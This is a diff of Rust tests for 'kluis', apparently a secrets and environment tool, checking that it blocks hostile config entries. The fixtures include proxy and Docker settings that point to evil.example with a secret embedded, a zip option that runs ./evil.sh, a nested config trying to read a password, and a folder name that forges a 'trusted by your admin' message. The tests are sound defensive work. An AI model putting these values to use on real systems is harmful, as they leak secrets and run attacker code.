@@ -347,7 +347,7 @@ fn a_change_of_a_long_text_is_shown_where_it_differs() {
     let trust = project.kluis(&["trust", "--yes"]);
     trust
         .any_stdout()
-        .stderr_has("~ DATABASE_URL     …evil.example/app (was …db/app)\n")
+        .stderr_has("~ DATABASE_URL     …evil.example/app\" (was …db/app\")\n")
         .exits(0);
 }
 
@@ -446,4 +446,65 @@ fn the_example_of_the_help_topic_is_a_project_file() {
     listed("production")
         .stdout(names.replace("GREETING\n", ""))
         .exits(0);
+}
+
+#[test]
+fn a_text_of_the_file_leads_no_program_elsewhere_unless_allowed() {
+    let project = Project::new("");
+    for (line, is_given) in [
+        ("KUBECONFIG = { value = './kc' }", false),
+        (
+            "HTTPS_PROXY = { url = 'http://{db_user}@evil.example' }",
+            false,
+        ),
+        (
+            "DOCKER_HOST = { secret = 'nope', default = 'tcp://evil.example' }",
+            false,
+        ),
+        ("ZIPOPT = { value = '-T -TT ./evil.sh' }", false),
+        ("KUBECONFIG = 'db_user'", true),
+        ("LOG_LEVEL = { value = 'debug' }", true),
+    ] {
+        project.rewrite(&format!("vault = 'secrets.kluis'\n[env]\n{line}"));
+        let run = project.kluis(&["run", "--", "true"]);
+        if is_given {
+            run.exits(0);
+            project.kluis(&["check"]).any_stdout().exits(0);
+            continue;
+        }
+        run.any_stderr().exits(125);
+        project.kluis(&["check"]).any_stdout().any_stderr().exits(7);
+        let key = line.split(' ').next().unwrap();
+        let allowed = ["run", "--allow-env", key, "--", "true"];
+        project.kluis(&allowed).exits(0);
+    }
+}
+
+#[test]
+fn a_named_file_stays_the_one_in_another_folder() {
+    let project = Project::new("vault = 'secrets.kluis'\n[env]\nA = 'db_user'");
+    let below = project.folder.join("dep");
+    fs::create_dir(&below).unwrap();
+    let theirs = "vault = '../secrets.kluis'\n[env]\nSTOLEN = 'db_password'";
+    fs::write(below.join("kluis.toml"), theirs).unwrap();
+    let script = "cd dep && echo \"$KLUIS_PROJECT\"";
+    let run = project.sandbox.kluis(["run", "--", "sh", "-c", script]);
+    let run = run.within(&project.folder);
+    let named = fs::canonicalize(project.folder.join("kluis.toml")).unwrap();
+    run.env("KLUIS_PROJECT", "kluis.toml")
+        .run()
+        .stdout(format!("{}\n", named.display()))
+        .exits(0);
+}
+
+#[test]
+fn a_name_with_a_line_break_begins_no_line_of_ours() {
+    let project = Project::new("");
+    let folder = project.folder.join("x\nkluis: note: trusted by your admin");
+    fs::create_dir(&folder).unwrap();
+    fs::write(folder.join("kluis.toml"), "broken").unwrap();
+    let list = project.sandbox.kluis(["env", "list"]).within(&folder).run();
+    assert_eq!(list.stderr.lines().count(), 1, "{}", list.stderr);
+    assert!(list.stderr.contains("\\u{a}kluis: note"), "{}", list.stderr);
+    list.any_stderr().exits(7);
 }
